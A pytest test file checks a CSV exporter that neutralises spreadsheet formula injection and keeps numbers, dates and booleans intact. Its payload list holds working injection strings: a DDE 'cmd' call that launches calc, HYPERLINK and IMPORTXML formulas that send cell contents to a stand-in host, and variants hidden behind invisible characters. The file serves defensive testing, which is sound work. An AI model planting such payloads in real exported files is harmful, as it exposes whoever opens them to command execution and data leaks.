"""A CSV that cannot attack whoever opens it, and that loses nothing else."""

import csv
import io
import re
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import pytest

from publications.tables.safe_csv import encode_csv, escape_formulas

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = (
    *(f"{sign}1+1" for sign in SIGNS),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.invalid",A2),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 171 1234567",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "   =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200d\u2060\xad=1+1",
    " \t =1+1",
    "\x01=1+1",
    '"=1+1',
    '"=1+1"',
    "harmless\n=1+1",
    "harmless\r=1+1",
    "harmless\r\n\u200b=1+1",
    "harmless\u2028=1+1",
    "harmless\n\t1",
    "harmless;=1+1",
    "harmless,=1+1",
    'harmless";=1+1;"',
    'harmless","=1+1',
    "harmless\t\t=1+1",
    "harmless| @SUM(1)",
    ";=1+1",
    ",-1",
    "=",
    "-",
)
BLANK = " \xa0\ufeff\u200b\u200c\u200d\u2060\xad\x01"


def is_dangerous(cell: str) -> bool:
    """The slow twin: look at every line of a cell, one character after the other."""
    for line in [cell, *re.split("[\n\r\u2028]", cell)]:
        rest = line
        while rest and rest[0] in BLANK:
            rest = rest[1:]
        if rest and rest[0] in SIGNS and not rest.isspace():
            return True
    return False


def is_formula(cell: str) -> bool:
    """Whether any line of a cell would be computed, once blanks and stray quotes are skipped."""
    lines = (line.lstrip(BLANK + '"\t') for line in re.split("[\n\r\u2028]", cell))
    return any(line.startswith(("=", "+", "-", "@", "\uff1d", "\uff20")) for line in lines)


def payload_frame() -> pd.DataFrame:
    columns = {f"{payload}{n}": list(PAYLOADS) for n, payload in enumerate(PAYLOADS)}
    return pd.DataFrame(columns)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_recognised_and_made_plain_text(payload: str) -> None:
    assert escape_formulas(payload) != payload
    assert escape_formulas(payload).replace("'", "") == payload.replace("'", "")
    assert not is_dangerous(escape_formulas(payload))


@pytest.mark.parametrize(
    "text",
    ["Smith & Sons", "a = b", "mail@example.org", "1-2-3", "3,5", "", "'quoted'", "x\ny", "é"],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert escape_formulas(text) == text


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("bom", [False, True])
def test_no_cell_or_header_is_dangerous_to_pythons_parser(separator: str, bom: bool) -> None:
    text = encode_csv(payload_frame(), bom=bom, separator=separator).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert [len(row) for row in rows] == [len(PAYLOADS)] * (len(PAYLOADS) + 1)
    assert [cell for row in rows for cell in row if is_dangerous(cell)] == []


@pytest.mark.parametrize("written", [",", ";", "\t"])
@pytest.mark.parametrize("read", [",", ";", "\t"])
def test_no_cell_is_dangerous_where_the_file_is_opened_with_another_separator(
    written: str, read: str
) -> None:
    text = encode_csv(payload_frame(), separator=written).decode()
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=read)
    assert [cell for row in rows for cell in row if is_formula(cell)] == []


@pytest.mark.parametrize("separator", [",", ";"])
def test_duckdb_reads_the_same_harmless_cells(separator: str, tmp_path: Path) -> None:
    payloads = [p for p in PAYLOADS if "\0" not in p]
    path = tmp_path / "leads.csv"
    frame = pd.DataFrame({"n": range(len(payloads)), "text": payloads})
    path.write_bytes(encode_csv(frame, separator=separator))
    rows = duckdb.sql(
        f"SELECT n, text FROM read_csv('{path}', delim='{separator}', quote='\"', escape='\"', "
        "header=true, all_varchar=true, new_line='\\n', auto_detect=false, "
        "columns={'n': 'VARCHAR', 'text': 'VARCHAR'})"
    ).fetchall()
    assert [text for _, text in rows] == [escape_formulas(payload) for payload in payloads]
    assert not any(is_dangerous(text) for _, text in rows)


def test_scores_and_counts_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"score": [-0.25, 0.1 + 0.2, np.nan], "calls": [-1, 2, 3]})
    path = tmp_path / "scores.csv"
    path.write_bytes(encode_csv(frame))
    assert path.read_text() == '"score","calls"\n"-0.25","-1"\n"0.3","2"\n"","3"\n'
    read = duckdb.sql(f"SELECT * FROM read_csv('{path}')").df()
    assert read["score"].tolist()[:2] == [-0.25, 0.3]
    assert read["calls"].tolist() == [-1, 2, 3]


def test_instants_are_written_in_utc_and_yes_no_columns_in_words() -> None:
    frame = pd.DataFrame(
        {
            "created_at": pd.to_datetime(["2012-03-25T01:30:00+01:00", None, None]),
            "newsletter": pd.array([True, None, False], dtype="boolean"),
        }
    )
    text = encode_csv(frame).decode()
    assert text == '"created_at","newsletter"\n"2012-03-25T00:30:00Z","yes"\n"",""\n"","no"\n'


def test_rows_keep_together_whatever_the_frames_index_is() -> None:
    frame = pd.DataFrame(
        {
            "lead_id": ["a", "b"],
            "seen_at": pd.to_datetime(["2012-03-25", "2012-03-26"], utc=True),
            "owned": [True, False],
            "calls": [1, 2],
        },
        index=[1, 0],
    )
    assert encode_csv(frame).decode().splitlines()[1:] == [
        '"a","2012-03-25T00:00:00Z","yes","1"',
        '"b","2012-03-26T00:00:00Z","no","2"',
    ]


def test_half_a_surrogate_pair_becomes_a_question_mark() -> None:
    frame = pd.DataFrame({"name": pd.Series(["J\ud83d"], dtype=object)})
    assert encode_csv(frame) == b'"name"\n"J?"\n'


def test_categories_are_defused_like_any_text() -> None:
    frame = pd.DataFrame({"source": pd.Categorical(["=1", "web", None])})
    assert encode_csv(frame).decode() == '"source"\n"\'=1"\n"web"\n""\n'


def test_a_frame_without_rows_still_has_its_headers() -> None:
    assert encode_csv(pd.DataFrame({"lead_id": pd.Series(dtype="str")})) == b'"lead_id"\n'


def test_excel_is_told_the_encoding_on_request() -> None:
    assert encode_csv(pd.DataFrame({"é": ["ü"]}), bom=True).startswith(b"\xef\xbb\xbf")


def test_an_unknown_separator_is_refused() -> None:
    with pytest.raises(ValueError, match=r"separator must be ',' or ';' or a tab, got '\|'"):
        encode_csv(pd.DataFrame({"a": [1]}), separator="|")
